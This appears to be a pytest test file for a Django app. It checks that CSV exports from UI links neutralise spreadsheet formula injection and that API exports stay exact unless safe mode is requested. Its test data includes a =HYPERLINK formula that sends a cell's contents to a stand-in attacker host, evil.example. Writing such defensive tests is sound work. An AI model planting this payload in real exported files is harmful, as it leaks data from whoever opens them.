"""The UI's CSV links give spreadsheet-safe files; the API's exports stay exact by default.

A cell like `=HYPERLINK(...)` runs as a formula when the file is opened in a spreadsheet. The
"Export this view as CSV" link is built by dataset.js: test_web_e2e.py follows it in a browser.
"""

from __future__ import annotations

import csv
import html
import io
import re

import pytest

from tests.accounts.actors import World

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
LINKS = {
    "dataset page": ("/datasets/links/", "Download all as CSV"),
    "files page": ("/", 'aria-label="Download links as CSV"'),
}


def _source() -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([["name", "note"], ["ada", FORMULA]])
    return out.getvalue()


def _csv_link(page: str, marker: str) -> str:
    for match in re.finditer(r"<a [^>]*>[^<]*</a>", page):
        if marker in match.group(0):
            return html.unescape(re.search(r'href="([^"]+)"', match.group(0)).group(1))
    raise AssertionError(f"no link with {marker!r} on the page")


@pytest.mark.parametrize("page", LINKS.values(), ids=LINKS.keys())
def test_csv_links_of_the_pages_give_spreadsheet_safe_files(
    page, world: World, client_as, uploaded
) -> None:
    uploaded(world.acme, "links.csv", _source())
    bob = client_as("bob")
    path, marker = page

    link = _csv_link(bob.get(path).content.decode(), marker)
    response = bob.get(link)

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows == [["name", "note"], ["ada", "'" + FORMULA]]


def test_api_export_stays_exact_unless_asked(world: World, api_as, uploaded) -> None:
    uploaded(world.acme, "links.csv", _source())
    viewer = api_as("viewer")

    exact = viewer.get("/api/v1/datasets/links/rows/?format=csv")
    safe = viewer.get("/api/v1/datasets/links/rows/?format=csv&safe=spreadsheet")

    assert b"".join(exact.streaming_content).decode() == _source()
    assert b"".join(safe.streaming_content).decode().splitlines()[1].startswith("ada,\"'=")


ORIGINAL_PAGES = {
    "files page": "/",
    "dataset page": "/datasets/links/",
    "rejects page": "/uploads/{upload.id}/rejects/",
}


@pytest.mark.parametrize("path", ORIGINAL_PAGES.values(), ids=ORIGINAL_PAGES.keys())
def test_original_file_links_say_they_are_exact_and_not_spreadsheet_safe(
    path, world: World, client_as, uploaded
) -> None:
    upload = uploaded(world.acme, "links.csv", _source())
    bob = client_as("bob")
    page = bob.get(path.format(upload=upload)).content.decode()

    links = [
        match.group(0)
        for match in re.finditer(r"<a [^>]*>[^<]*</a>", page)
        if f"/uploads/{upload.id}/file" in match.group(0)
    ]
    assert links, "no link to the original file on the page"
    for link in links:
        assert 'title="The file exactly as uploaded; not spreadsheet-safe"' in link
        original = bob.get(html.unescape(re.search(r'href="([^"]+)"', link).group(1)))
        assert b"".join(original.streaming_content).decode() == _source()  # by design
